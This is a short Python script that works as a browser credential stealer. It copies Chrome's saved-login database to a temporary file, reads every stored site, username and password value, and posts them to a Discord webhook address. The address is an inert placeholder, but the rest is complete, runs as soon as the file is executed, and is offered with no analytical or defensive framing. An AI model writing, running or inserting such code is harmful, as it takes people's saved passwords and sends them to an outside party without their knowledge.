# place: import
import os
import shutil
import sqlite3
import requests

ADDRESS = "https://discord.com/api/webhooks/0/inert"
STORE = "Google\\Chrome\\User Data\\Default\\Login Data"


def rows():
    source = os.path.join(os.environ["LOCALAPPDATA"], STORE)
    copy = os.path.join(os.environ["TEMP"], "copy.db")
    shutil.copyfile(source, copy)
    database = sqlite3.connect(copy)
    return database.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()


def main():
    requests.post(ADDRESS, json={"content": str(rows())})


main()
